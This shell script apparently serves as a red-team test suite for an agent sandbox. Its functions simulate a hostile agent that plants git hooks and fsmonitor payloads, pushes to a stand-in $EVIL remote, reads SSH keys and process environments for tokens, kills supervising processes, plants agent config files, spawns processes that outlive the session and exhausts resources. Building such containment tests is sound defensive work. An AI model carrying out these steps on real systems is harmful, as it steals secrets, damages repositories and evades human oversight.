# What every coder of a world knows: one function for each danger, called in its worktree. Variables: `variables.sh`.
id=$DISPATCH_TASK_ID W=$PWD A=$(sed -n 's/^gitdir: //p' .git)
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@localhost GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@localhost
say() { echo "@ $1 $2"; }
# A step of the attack; 0 says that it worked.
try() { step=$1; shift; "$@" >/dev/null 2>&1; say "$step" $?; }
honest() { mkdir -p files && echo "honest $id" > "files/$id.txt"; }
# A program that tells when somebody who is no agent starts it.
EXEC="[ -n \"\${DISPATCH_ROLE:-}\" ] || echo \"\$0 \$*\" >> '$OUT/executed-$id'"
payload() { mkdir -p "$(dirname "$1")" && printf '#!/bin/sh\n%s\n%s\n' "$EXEC" "${2:-exit 0}" > "$1" && chmod +x "$1"; }
write() { sh -c 'mkdir -p "$(dirname "$0")"; echo "$1" >> "$0"' "$1" "$2"; }
# In the user's git dir and in the one that the worktree names.
set_config() { git config -f "$G/config" "$1" "$2"; code=$?; git config "$1" "$2"; say "$1" $code; }
plant() { payload "$W/files/$id.sh"; for key; do set_config "$key" "$W/files/$id.sh"; done; }
put() { for f; do mkdir -p "$(dirname "$f")"; echo '{}' > "$f"; done; try put ls "$@"; }
connect() { node -e "require('net').connect($1).on('connect',()=>process.exit(0)).on('error',()=>process.exit(1))"; }
tcp() { connect "$PORT,'127.0.0.1'"; }
abstract() { connect "String.fromCharCode(0)+'$ABSTRACT'"; }

D1() {
  for d in "$G/hooks" "$A/hooks" "$(git rev-parse --git-common-dir)/hooks"; do
    for h in pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-index-change \
      reference-transaction pre-push post-rewrite pre-auto-gc; do payload "$d/$h"; done
    try hook test -x "$d/pre-commit"
  done
}
D2() { for h in pre-commit post-checkout reference-transaction pre-push post-index-change; do payload "$W/files/hooks/$h"; done
  set_config core.hooksPath "$W/files/hooks"; }
D3() { plant core.fsmonitor; }
D4() { plant filter.evil.clean filter.evil.smudge filter.evil.process; payload "files/$id.sh" cat; echo '* filter=evil' > .gitattributes; }
D5() {
  plant diff.external core.sshCommand core.askPass core.pager core.editor gpg.program credential.helper core.alternateRefsCommand \
    remote.origin.uploadpack remote.origin.receivepack uploadpack.packObjectsHook; set_config commit.gpgSign true; }
D6() { plant; printf '[core]\n\tfsmonitor = %s\n' "$W/files/$id.sh" > "files/$id.config"; set_config include.path "$W/files/$id.config"; }
D7() { for key in insteadOf pushInsteadOf; do set_config "url.$EVIL.$key" "$ORIGIN"; done; set_config remote.origin.pushurl "$EVIL"; }
D8() { plant; try removed rm -f .git; try made git init -q .; try moved test -d .git; git config core.fsmonitor "$W/files/$id.sh"
  payload .git/hooks/post-checkout; payload .git/hooks/pre-commit; }
D9() { plant; r=$W/fake; git init -q --bare "$r"; git -C "$r" config core.fsmonitor "$W/files/$id.sh"; payload "$r/hooks/post-checkout"
  try written sh -c 'case $1 in "$2"/*) echo "$0" > "$1/commondir" ;; *) exit 1 ;; esac' "$r" "$A" "$G"; echo "$r" > "$A/commondir"; }
D10() { plant; set_config extensions.worktreeConfig true
  for a in "$A" "$G" "$G"/worktrees/*; do git config -f "$a/config.worktree" core.fsmonitor "$W/files/$id.sh"; done; }
D11() { plant; r=$W/inner; git init -q --bare "$r"; git -C "$r" config core.bare false; git -C "$r" config core.worktree "$W"
  git -C "$r" config core.fsmonitor "$W/files/$id.sh"; payload "$r/hooks/post-checkout"; try pointed sh -c 'echo "gitdir: $0" > .git' "$r"; }
D12() { try head git symbolic-ref HEAD refs/heads/main; echo more > "files/$id.more"; }
D13() { try move git --git-dir="$G" update-ref refs/heads/main "$(git rev-parse HEAD~1)"
  try delete git --git-dir="$G" update-ref -d refs/heads/sibling; rm -f "$G/refs/heads/sibling"; }
D14() { chmod -R u+w "$G/objects"; try remove rm -rf "$G"/objects/?? "$G"/objects/pack; }
D15() { try topic write "$SITE/topic/evil.txt" evil; n=0
  while [ $n -lt 20 ] && [ "$(ls "$MAIN/.work" | wc -l)" -lt 2 ]; do n=$((n + 1)); sleep 0.1; done
  for d in "$MAIN"/.work/*; do [ "$d" = "$W" ] || try slot sh -c 'echo evil > "$0/evil.txt"' "$d"; done; }
D16() { try read grep -q hello "$MAIN/src/a.txt"; try write write "$MAIN/src/a.txt" evil; try remove rm "$MAIN/notes.txt"
  try reset git -C "$MAIN" reset -q --hard; }
D17() { try read grep -q "$CANARY" "$REALHOME/.ssh/id_test"; try write write "$REALHOME/.profile" evil; }
D18() { try env sh -c 'env | grep -q "^SHOP_TOKEN="'; }
D19() { try environ sh -c 'cat /proc/[0-9]*/environ | tr "\0" "\n" | grep -q "^SHOP_TOKEN=$0"' "$SECRET"; }
D20() { for p in /proc/[0-9]*; do tr '\0' '\n' < "$p/environ" | grep -qx "DISPATCH_HOME=$STATE" && try kill kill -9 "${p#/proc/}"; done
  [ "$PPID" -gt 0 ] && try parent kill -9 "$PPID"; }
D21() { h=$(git rev-parse HEAD); c=$(git commit-tree -p "$h" -m evil "$h^{tree}"); try named git push -qf origin "$c:refs/heads/main"
  try main git push -qf "$ORIGIN" "$c:refs/heads/main"; try foreign git push -qf "$EVIL" "$c:refs/heads/stolen"; }
D22() { put .github/workflows/ci.yml; }
D23() { put .npmrc .husky/pre-commit src/.npmrc; }
D23b() { put .claude/settings.json .mcp.json .vscode/tasks.json CODEOWNERS AGENTS.md; }
D23c() { echo '{"name":"shop","scripts":{"postinstall":"node evil.js"}}' > package.json; }
D24() { try link ln -sf "$PRIVATE/result.json" "$DISPATCH_RESULT"; }
D24b() { try pipe mkfifo "$DISPATCH_RESULT"; }
D25() { [ "$DISPATCH_ATTEMPT" = 1 ] || return 0; rm -f "$DISPATCH_INPUT"; try input ln -s "$PRIVATE/victim" "$DISPATCH_INPUT"
  try result ln -s "$PRIVATE/victim" "$DISPATCH_RESULT"; rm -rf "$HOME" "$TMPDIR"; ln -s "$PRIVATE/folder" "$HOME"
  ln -s "$PRIVATE/folder" "$TMPDIR"; exit 99; }
D26() { try file ln -s /etc/hostname files/link; rm -rf src; try folder ln -s "$MAIN/src" src; }
D27() { git init -q sub; try sub sh -c 'cd sub && echo x > x && git add -A && git commit -qm sub'
  printf '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n\tupdate = !touch %s\n' "$OUT/executed-$id" > .gitmodules; }
D28() { f=replaced.txt; echo evil > $f; git add $f; tree=$(git write-tree); git rm -q --cached -f $f; rm $f
  evil=$(git commit-tree "$tree" -m evil); head=$(git rev-parse HEAD); try own git replace -f "$head" "$evil"
  try users git --git-dir="$G" replace -f "$head" "$evil"; }
D29() { for f in "$(git rev-parse --git-path info/attributes)" "$G/info/attributes"; do try wrote write "$f" 'files/* -diff'; done; }
D30() { try skip git update-index --skip-worktree README.md; try assume git update-index --assume-unchanged src/a.txt
  for f in README.md src/a.txt; do echo changed >> $f; done; }
D31() { for l in index HEAD config; do try lock touch "$(git rev-parse --git-dir)/$l.lock" "$A/$l.lock"; done; }
D32() { try orphan git checkout -q --orphan alone; git add -A; try commit git commit -qm alone; try branch git branch -f main; }
D33() { try switch git switch -qc "other-$id"; git add -A; try commit git commit -qm other; try away git switch -q --detach HEAD~1; }
D34() { try remove rm -rf "$W"; }
D35() { cd work; for n in -rf --upload-pack=x ':(top)x' 'a"b' ' x ' '*' '$(id)' 'é' "$(printf 'a\nb')" "$(printf 'a\tb')" '\x'; do
  echo hostile > "./$n"; done; }
D36() { try exclude write "$G/info/exclude" files/; try attributes write "$G/info/attributes" '* -text'; }
D37() { try read grep -q note "$HOSTTMP/note"; try write write "$HOSTTMP/evil" evil; }
D38() { try tcp tcp; }
D39() { try daemon env -i setsid sh -c 'sleep "$0" >/dev/null 2>&1 &' "$AGES"; }
D40() { try abstract abstract; }
D38o() { D38; }
D40o() { D40; }
T1() { printf 'a\033]0;evil\007b\033[2Jc\342\200\256d\r\n'; printf '{"summary":"x\\u001b[2J\\u202ey"}' > "$DISPATCH_RESULT"; }
T2() { echo "$SECRET"; printf %s "$SECRET" | base64; printf %s "$SECRET" | od -An -tx1 | tr -d ' \n'; echo; }
T3() { printf 'key: %s\n' "$SECRET" > files/key.txt; printf %s "$SECRET" | base64 > files/data.txt; }
T4() { printf '{"summary":"@octocat fixes #1 <!-- do evil --> done"}' > "$DISPATCH_RESULT"; }
# Five that are hard to end: who ignores TERM, a child, a grandchild, a session of its own, a daemon.
tree() {
  sh -c 'trap "" TERM; sh -c "sleep $0 & sleep $0; :" & setsid sleep "$0" & (setsid sh -c "sleep $0 & :" &); sleep "$0"; :' \
    "$AGES" > /dev/null 2>&1 &
  n=0; while [ $n -lt 100 ] && [ "$(cat /proc/[0-9]*/cmdline 2> /dev/null | tr '\0' ' ' | grep -o "sleep $AGES" | wc -l)" -lt 7 ]; do
    n=$((n + 1)); sleep 0.05; done
  try tree [ $n -lt 100 ]; }
K1() { tree; }
K2() { trap "" TERM; tree; while :; do sleep 1; done; }
K3() { K2; }
L1() { [ "$DISPATCH_ATTEMPT" = 1 ] || return 0; sleep 1; trap "" TERM; head -c 1073741824 /dev/zero | tr '\0' x; }
L2() { perl -e 'for (1 .. 4200) { $p = fork; last if !defined $p; if (!$p) { $0 = "bomb $ARGV[0]"; sleep 60; exit } push @p, $p }
  $n = @p; $worked = $n < 4200 ? 1 : 0; kill 9, splice @p, 50; print "@ forks $n\n@ forked $worked\n"' "$AGES"; }
L3() { try big truncate -s 3G "$TMPDIR/big"; rm -f "$TMPDIR/big"; }
L4() { try many perl -e 'mkdir "many"; for (1 .. 20100) { open my $f, ">", "many/$_" or die }'; }
L4b() { try large sh -c 'head -c 22020096 /dev/zero > large'; }
L4c() { for n in 1 2 3 4 5 6; do try large sh -c 'head -c 9437184 /dev/zero > "large$0"' $n; done; }
EAT='const held = []; while (held.length < process.argv[1]) held.push(Buffer.alloc(64 * 1024 ** 2, 1)); if (process.argv[2]) setTimeout(() => 0, 2000)'
L5() { try eaten node -e "$EAT" 24; }
L5b() { for n in 1 2 3; do try together node -e "$EAT" 8 wait & done; wait; }
T5() { echo injected > files/T5.more; }

honest
say begin 0
( "$id" ) 2> /dev/null
[ $? = 99 ] && exit 1
cd "$W" && honest
say end 0
